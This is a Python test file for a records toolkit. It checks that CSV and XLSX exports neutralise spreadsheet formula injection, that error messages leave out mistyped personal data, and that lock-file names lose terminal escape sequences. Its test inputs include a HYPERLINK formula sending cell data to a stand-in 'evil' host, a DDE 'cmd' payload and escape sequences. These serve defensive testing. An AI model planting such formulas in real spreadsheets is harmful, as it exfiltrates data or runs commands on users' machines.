"""Hostile input: formulas in what vks writes into CSV and spreadsheets, personal data typed
into the wrong cell, escape sequences in lock files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from toolkit.cli import cli
from toolkit.journal.text import neutralise_formula, printable
from toolkit.recordings.retention import Recording, render_csv, render_xlsx
from toolkit.sources.xlsx.locks import describe_locks, lock_holder

D = dt.date
INJECTIONS = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
              "-2+3", "\t=1+2", "\r=1+2", "=1+2"]


def _recordings(references: list[str]) -> list[Recording]:
    return [Recording("=Орган", "-Лист", 6 + i, i + 1, D(2024, 1, 10), D(2026, 1, 10), ref)
            for i, ref in enumerate(references)]


def test_csv_cells_that_look_like_formulas_stay_text() -> None:
    data = render_csv(_recordings([*INJECTIONS, "запись-0017.mp4"]))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    references = [row[7] for row in rows[1:]]
    assert references == [f"'{ref}" for ref in INJECTIONS] + ["запись-0017.mp4"]
    assert rows[1][1:3] == ["'=Орган", "'-Лист"]


def test_xlsx_list_keeps_formula_like_text_as_quoted_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(_recordings(INJECTIONS), D(2026, 2, 1))))
    ws = book.active
    assert ws is not None
    for i, ref in enumerate(INJECTIONS):
        cell = ws.cell(5 + i, 8)
        assert cell.data_type == "s" and cell.value == ref
        assert cell.quotePrefix  # Excel shows it as text and keeps it text when edited


@pytest.mark.parametrize(("text", "expected"), [
    ("=1+2", "'=1+2"), ("+7 913", "'+7 913"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\r=x", "'\r=x"), ("Петрова", "Петрова"), ("", ""), ("1=1", "1=1"),
])
def test_neutralise_formula(text: str, expected: str) -> None:
    assert neutralise_formula(text) == expected


# --- No personal data in check messages --------------------------------------------------------


def test_check_never_repeats_a_mistyped_cell(journal_file) -> None:  # type: ignore[no-untyped-def]
    name, phone, email = "Пушкина Алла Сергеевна", "+7 913 555-12-34", "pushkina@mail.ru"
    path = journal_file({"Орган": [
        {"number": 1, "received": name, "citizen": "Петров Петр Петрович", "topic": "т",
         "decision": phone, "decision_date": email, "appointment": name},
        {"number": email, "received": D(2026, 11, 2), "citizen": "Сидоров Сидор", "topic": "т",
         "decision": "Заявка отклонена", "decision_date": D(2026, 11, 3), "ground": name,
         "outcome": phone},
    ]})
    result = CliRunner().invoke(cli, ["check", str(path), "--today", "2026-11-27",
                                      "--format", "json"])
    assert result.exit_code == 1
    report = json.loads(result.output)
    cells = {(f["cell"], f["code"]) for f in report["findings"]}
    assert {("B6", "cell-invalid-date"), ("E6", "cell-unknown-value"),
            ("F6", "cell-invalid-date"), ("G6", "cell-invalid-datetime"),
            ("A7", "cell-invalid-number"), ("H7", "ground-unknown"),
            ("J7", "cell-unknown-value")} <= cells
    text = CliRunner().invoke(cli, ["check", str(path), "--today", "2026-11-27"]).output
    for output in (result.output, text):
        for secret in (name, "Пушкина", phone, "555-12-34", email, "pushkina"):
            assert secret not in output
    messages = {f["cell"]: f["message"] for f in report["findings"]}
    assert messages["B6"] == "графа 2 «Дата поступления заявки»: значение не дата; введите " \
        "ДД.ММ.ГГГГ"


# --- Lock files with escape sequences --------------------------------------------------------


def test_lock_holder_is_printed_without_control_characters(tmp_path: Path) -> None:
    journal = tmp_path / "журнал.xlsx"
    journal.write_bytes(b"")
    lock = tmp_path / ".~lock.журнал.xlsx#"
    lock.write_bytes("Иванова\x1b]0;pwned\x07\x1b[2J\x9b31m Е.П.\u202e,host,u,d,p;".encode())
    holder = lock_holder(lock)
    assert holder == "Иванова]0;pwned[2J31m Е.П."
    message = describe_locks(journal)
    assert message is not None and "\x1b" not in message and "\x07" not in message
    assert "Иванова" in message


def test_busy_message_on_the_terminal_has_no_escape(demo) -> None:  # type: ignore[no-untyped-def]
    path, _ = demo
    (path.parent / f".~lock.{path.name}#").write_bytes(b"Eve\x1b[31mRED\x1b[0m,h,u,d,p;")
    result = CliRunner().invoke(cli, ["check", str(path), "--write", "--today", "2026-11-27"])
    assert result.exit_code == 3
    assert "\x1b" not in result.output and "Eve[31mRED[0m" in result.output


def test_printable_keeps_lines_and_drops_controls() -> None:
    assert printable("a\x1b[2Jb\nc\td\x00") == "a[2Jb\nc\td"
